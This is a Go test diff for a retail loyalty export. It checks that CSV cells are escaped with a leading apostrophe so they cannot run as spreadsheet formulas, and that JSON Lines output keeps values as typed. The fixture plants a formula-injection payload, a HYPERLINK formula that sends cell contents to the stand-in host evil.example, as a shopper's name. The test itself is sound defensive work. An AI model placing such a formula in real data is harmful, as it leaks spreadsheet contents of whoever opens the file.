@@ -329,3 +329,37 @@ func TestExport_AnotherDatabasesTransactionDoesNotHoldItBack(t *testing.T) {
 		t.Errorf("with transaction %s open in database postgres the export read %q, want %q", xid, got, want)
 	}
 }
+
+// TestExport_CSVCellsCannotRunAsFormulas: a name a shopper typed is text in
+// the CSV feed a CRM team opens in Excel (a leading apostrophe), whatever it
+// starts with; JSON Lines, for machines, keep it as typed, and numbers (a
+// points reversal, an E.164 phone) stay numbers in both.
+func TestExport_CSVCellsCannotRunAsFormulas(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		w := newWorld(t, db)
+		evil := `=HYPERLINK("http://evil.example/?"&A1,"Ann")`
+		ann := w.enrol(t, "+447700900101", "@CRM-1", evil)
+		w.commit(t, string(ann.Code), "T-1", checkout.Item{Line: 1, SKU: "A", Quantity: 2, UnitPrice: 1000})
+		if _, err := w.till.Return(context.Background(), &checkout.ReturnRequest{Store: "S1", TransactionID: "T-1", ReturnID: "R1",
+			Items: []checkout.ReturnItem{{Line: 1, Quantity: 1}}}); err != nil {
+			t.Fatal(err)
+		}
+		w.clk.Advance(time.Minute)
+		for _, tc := range []struct {
+			format     outfile.Format
+			name, crm  string
+			wantPoints []string
+		}{
+			{outfile.CSV, "'" + evil, "'@CRM-1", []string{"earn 19", "reverse -9"}},
+			{outfile.JSONL, evil, "@CRM-1", []string{"earn 19", "reverse -9"}},
+		} {
+			got := w.exportTo(t, "", tc.format)
+			if m := got.project("members", "external_id", "first_name"); len(m) != 1 || m[0] != tc.crm+" "+tc.name {
+				t.Errorf("%s members: %q, want %q", tc.format, m, tc.crm+" "+tc.name)
+			}
+			if p := got.project("points", "kind", "points"); !slices.Equal(p, tc.wantPoints) {
+				t.Errorf("%s points: %q, want %q", tc.format, p, tc.wantPoints)
+			}
+		}
+	})
+}
